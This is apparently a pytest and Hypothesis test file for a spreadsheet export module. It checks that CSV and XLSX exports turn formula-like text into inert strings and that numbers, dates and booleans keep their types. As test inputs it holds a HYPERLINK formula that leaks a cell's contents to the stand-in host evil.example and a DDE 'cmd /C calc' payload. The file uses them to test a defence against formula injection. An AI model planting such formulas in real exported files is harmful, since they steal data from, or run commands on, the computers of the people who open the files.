"""Exports write data, never formulas: the cells of operations/spreadsheets.py, case by case and for
any text Hypothesis makes up."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from operations.spreadsheets import FORMULA_STARTS, csv_bytes, csv_cell, xlsx_bytes, xlsx_row, xlsx_text
from tests.support import xlsx_sheets_with_formulas, xlsx_typed_cells

# No deadline: a slow example on a busy machine is not a failure.
properties = settings(deadline=None, max_examples=300)


def _xlsx_round_trip(values: list[object]) -> list[tuple[object, str]]:
    content = xlsx_bytes({"Sheet": [[*values, "end"]]})  # a row of empty cells would be no row
    assert xlsx_sheets_with_formulas(content) == []
    ((row,),) = xlsx_typed_cells(content).values()
    assert row[-1] == ("end", "s")
    return row[:-1]


def _csv_round_trip(values: list[object], delimiter: str = ",") -> list[str]:
    content = csv_bytes([values], delimiter=delimiter)
    assert content.startswith("\ufeff".encode())
    (row,) = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return row


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&B2,"Klikk her")',
            '\'=HYPERLINK("http://evil.example/?leak="&B2,"Klikk her")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("+47 55 55 55 55", "'+47 55 55 55 55"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("Flere boliger", "Flere boliger"),
        (" =1+2", " =1+2"),  # not among OWASP's characters: a leading space makes it text already
        ("a=b", "a=b"),
        ("'=1+2", "'=1+2"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (2.5, 2.5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (datetime.date(2027, 3, 1), datetime.date(2027, 3, 1)),
        (True, True),
    ],
)
def test_a_csv_cell_quotes_text_that_starts_a_formula_and_nothing_else(value, cell):
    assert csv_cell(value) == cell
    assert type(csv_cell(value)) is type(cell)


def test_the_csv_module_quotes_separators_quotes_and_line_breaks():
    content = csv_bytes([["a;b", 'sa "hei"', "to\nlinjer", "=1+2", -9]], delimiter=";")

    assert content == '\ufeff"a;b";"sa ""hei""";"to\nlinjer";\'=1+2;-9\r\n'.encode()
    assert _csv_round_trip(["a;b", 'sa "hei"', "to\nlinjer", "=1+2", -9], ";") == [
        "a;b",
        'sa "hei"',
        "to\nlinjer",
        "'=1+2",
        "-9",
    ]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&B2,"Klikk her")',
            '=HYPERLINK("http://evil.example/?leak="&B2,"Klikk her")',
        ),
        ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
        ("-5", "-5"),
        ("@SUM(A1:A9)", "@SUM(A1:A9)"),
        ("\t=1+2", "\t=1+2"),
        ("#N/A", "#N/A"),  # openpyxl would make this an error value
        ("0301", "0301"),  # a municipality number keeps its leading zero
        ("  spaces around  ", "  spaces around  "),
        ("to\nlinjer", "to\nlinjer"),
        ("a\r\nb", "a\nb"),  # XML reads a carriage return as a line feed; Excel's line break is one
        ("\r=1+2", "\n=1+2"),
        ("Word\x0blinje\x0cside", "Word\nlinje\nside"),  # Word's line and page breaks
        ("bell\x07", "bell\ufffd"),  # XML cannot hold it; openpyxl would refuse the whole file
        ("\uffff", "\ufffd"),
    ],
)
def test_an_xlsx_text_is_a_string_cell(value, cell):
    assert _xlsx_round_trip([value]) == [(cell, "s")]


def test_numbers_dates_and_booleans_keep_their_types_in_xlsx():
    row = _xlsx_round_trip([-5, 2.5, Decimal("-1.5"), datetime.date(2027, 3, 1), True, None, "x"])

    assert row == [
        (-5, "n"),
        (2.5, "n"),
        (-1.5, "n"),
        (datetime.datetime(2027, 3, 1), "d"),
        (True, "b"),
        (None, "n"),
        ("x", "s"),
    ]


def test_a_row_of_an_ordinary_workbook_is_text_too():
    # given an ordinary (not write-only) workbook, as a caller with its own layout has
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, ["=1+2", -5, "-5"]))
    buffer = io.BytesIO()
    workbook.save(buffer)

    assert xlsx_sheets_with_formulas(buffer.getvalue()) == []
    assert list(xlsx_typed_cells(buffer.getvalue()).values()) == [[[("=1+2", "s"), (-5, "n"), ("-5", "s")]]]


def test_sheets_come_in_the_given_order():
    content = xlsx_bytes({"Data": [["a"]], "Kodebok": [["b"]], "Tom": []})

    assert list(xlsx_typed_cells(content)) == ["Data", "Kodebok", "Tom"]


# --- for any text -----------------------------------------------------------------------------

# No user text holds NUL (PostgreSQL's text cannot) or a lone surrogate (not UTF-8, so in no request).
any_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=200)
# Text that starts a formula more often than chance would have it.
formula_like = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), any_text)
texts = st.one_of(any_text, formula_like)
# What XML 1.0 holds as it is: no carriage return, no other control character than tab and line feed.
xml_text = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters="".join(map(chr, [*range(0x00, 0x09), 0x0B, 0x0C, 0x0D, *range(0x0E, 0x20)]))
        + "\ufffe\uffff",
    ),
    max_size=200,
)


@properties
@given(text=st.one_of(xml_text, st.builds(lambda start, rest: start + rest, st.sampled_from("=+-@\t"), xml_text)))
def test_any_text_comes_back_from_xlsx_as_the_same_string_and_never_a_formula(text):
    (cell,) = _xlsx_round_trip([text])

    assert cell == ((text or None), "s" if text else "n")  # an empty cell is no cell


@properties
@given(text=texts)
def test_any_text_comes_back_from_xlsx_as_its_xml_form_and_never_a_formula(text):
    (cell,) = _xlsx_round_trip([text])

    assert cell[0] == (xlsx_text(text) or None)
    assert cell[1] != "f"


@properties
@given(text=texts)
def test_a_csv_cell_never_starts_a_formula_unless_it_is_quoted(text):
    (cell,) = _csv_round_trip([text])

    assert not cell.startswith(FORMULA_STARTS)
    assert cell == ("'" + text if text.startswith(FORMULA_STARTS) else text)


@properties
@given(number=st.integers(min_value=-(10**15), max_value=10**15))
def test_any_number_stays_a_number(number):
    assert _csv_round_trip([number]) == [str(number)]
    assert _xlsx_round_trip([number]) == [(number, "n")]
